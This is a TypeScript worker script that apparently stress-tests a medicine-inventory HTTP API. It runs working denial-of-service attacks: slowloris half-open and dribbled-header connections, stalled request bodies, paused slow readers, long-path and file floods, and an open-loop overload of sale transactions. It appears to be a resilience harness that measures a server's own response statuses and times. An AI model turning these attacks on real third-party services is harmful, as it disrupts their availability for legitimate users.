import { randomUUID } from 'node:crypto'
import { Agent, type OutgoingHttpHeaders, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'
import type { AttackData, AttackName } from './flood.ts'

const { name, origin, authorizations, medicineIds, perSecond } = workerData as AttackData
const { hostname, port } = new URL(origin)
const [attacker = ''] = authorizations
const statuses: Record<string, number> = {}
const times: number[] = []
const count = (status: string | number) => {
  statuses[status] = (statuses[status] ?? 0) + 1
}

const head = (line: string, ...headers: string[]) =>
  [`${line} HTTP/1.1`, 'Host: x', ...headers, '', ''].join('\r\n')
const authorized = `Authorization: ${attacker}`

function hold(amount: number, sent: string, onOpen?: (socket: Socket) => void): void {
  const open = () => {
    const socket = connect(Number(port), hostname, () => {
      socket.write(sent)
      onOpen?.(socket)
    })
    socket.on('error', () => {}).once('close', () => setTimeout(open, 100))
  }
  for (let at = 0; at < amount; at += 1) setTimeout(open, at / 4)
}

function send(
  agent: Agent,
  path: string,
  options: { method?: string; headers: OutgoingHttpHeaders; body?: string },
) {
  const begun = performance.now()
  const { body, ...rest } = options
  return new Promise<void>((resolve) => {
    const sent = request({ hostname, port, agent, path, ...rest }, (answer) =>
      answer.resume().once('close', () => {
        count(answer.statusCode ?? 0)
        if ((answer.statusCode ?? 0) < 400) times.push(performance.now() - begun)
        resolve()
      }),
    )
    sent.once('error', () => {
      count('broken')
      resolve()
    })
    sent.end(body)
  })
}

/** Open loop: the rate does not depend on responses. */
function overload(): void {
  const agent = new Agent({ keepAlive: true, maxSockets: 800 })
  let due = 0
  let turn = 0
  setInterval(() => {
    for (due += perSecond / 50; due >= 1; due -= 1) {
      turn += 1
      const body = {
        medicineId: medicineIds[turn % medicineIds.length],
        type: 'sale',
        quantity: 1,
        unitPrice: 1,
        note: '',
      }
      const headers = {
        authorization: authorizations[turn % authorizations.length],
        'content-type': 'application/json',
        'idempotency-key': randomUUID(),
      }
      void send(agent, '/api/transactions', { method: 'POST', headers, body: JSON.stringify(body) })
    }
  }, 20)
}

function flood(path: string): void {
  const agent = new Agent({ keepAlive: true, maxSockets: 32 })
  const again = (): Promise<void> => send(agent, path, { headers: {} }).then(again)
  for (let at = 0; at < 32; at += 1) void again()
}

const attacks: Record<AttackName, () => void> = {
  nothing: () => {},
  'five times the load': overload,
  '128 bodies announced, with a token': () =>
    hold(128, head('POST /api/transactions', authorized, 'Content-Length: 262144')),
  '4,000 half-open connections': () => hold(4_000, 'GET / HTTP/1.1\r\n'),
  '1,000 dribble headers': () =>
    hold(1_000, 'GET / HTTP/1.1\r\nX: ', (socket) => {
      const dribble = setInterval(() => socket.write('x'), 500)
      socket.once('close', () => clearInterval(dribble))
    }),
  '280 slow readers of all medicines': () =>
    hold(280, head('GET /api/medicines', authorized), (socket) => void socket.pause()),
  'a flood of long paths': () => flood(`/api/${'x'.repeat(15_000)}`),
  'a flood of files': () => flood('/measurements.md'),
}

parentPort?.once('message', () => {
  parentPort?.postMessage({ statuses, times })
  setTimeout(() => process.exit(), 100)
})
attacks[name]()
